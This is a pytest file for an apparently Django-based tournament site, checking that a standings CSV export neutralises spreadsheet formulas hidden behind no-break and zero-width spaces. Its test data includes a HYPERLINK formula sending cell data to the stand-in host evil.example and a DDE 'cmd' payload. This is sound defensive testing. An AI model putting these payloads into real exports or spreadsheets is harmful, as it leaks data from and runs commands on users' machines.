"""Issue 44: the CSV writer missed a formula behind a no-break or other Unicode space. Replayed
through HTTP against the running site: a name that hides a formula is registered (through the
organiser's page, or restored from a backup, which keeps names as the file has them), and the
standings are downloaded as a spreadsheet would open them."""

import csv
import io
import unicodedata

import pytest

from backup.selectors import tournament_export
from backup.services import tournament_import
from tests import factories
from tests.tournaments.helpers import play
from tournaments.models import Tournament

pytestmark = pytest.mark.django_db(transaction=True)

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Details")'
PASSWORD = "a-long-test-password"  # tests.factories.user's


def cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.text[:500]
    assert response.headers["Content-Type"].startswith("text/csv")
    return list(
        csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";")
    )


def column(rows: list[list[str]], heading: str) -> list[str]:
    header, *body = rows
    return [row[header.index(heading)] for row in body]


def visible(cell: str) -> str:
    """The cell as a spreadsheet that passes over every space and invisible character reads
    it."""
    return "".join(
        c for c in cell if not (c.isspace() or unicodedata.category(c)[0] in "ZC")
    ).lstrip()


def test_a_formula_behind_invisible_spaces_registered_on_the_page_is_text_in_the_csv(visitor):
    organiser = factories.user(username="organiser")
    tournament = factories.tournament(players=4, organiser=organiser, standings_public=True)
    browser = visitor()
    browser.log_in("organiser", PASSWORD)
    # A form strips the spaces around a value, but not a zero-width space: the no-break space
    # behind it stays, and so does the formula behind both.
    hidden_name = "\u200b\u00a0" + FORMULA
    hidden_club = "\u2060\u3000+cmd|' /C calc'!A0"
    response = browser.post_form(
        f"/tournaments/{tournament.slug}/players/",
        {"first_name": hidden_name, "last_name": "Meier", "club": hidden_club},
    )
    assert response.status_code == 302, response.text[:500]

    rows = cells(visitor(cookies=False).get(f"/tournaments/{tournament.slug}/standings.csv"))

    assert f"'{hidden_name} Meier" in column(rows, "Name")
    assert f"'{hidden_club}" in column(rows, "Club")
    for row in rows[1:]:
        for cell in row:
            assert cell.startswith("'") or not visible(cell).startswith(("=", "+", "-", "@"))


def test_a_formula_behind_a_no_break_space_restored_from_a_backup_is_text_in_the_csv(visitor):
    """A restored backup keeps the names as its file has them, spaces and all."""
    organiser = factories.user(username="organiser")
    tournament = factories.tournament(players=4, organiser=organiser, standings_public=True)
    play(tournament)
    data = tournament_export(tournament=tournament)
    data["tournament"]["slug"] = "restored"
    for item in data["entries"]:
        item["club"] = "\u00a0" + FORMULA
    data["entries"][0]["first_name"] = "\u00a0\u2007＝1+1"
    tournament_import(data=data)
    restored = Tournament.objects.get(slug="restored")

    rows = cells(visitor(cookies=False).get(f"/tournaments/{restored.slug}/standings.csv"))

    assert column(rows, "Club") == ["'\u00a0" + FORMULA] * 4
    assert any(name.startswith("'\u00a0\u2007＝1+1 ") for name in column(rows, "Name"))
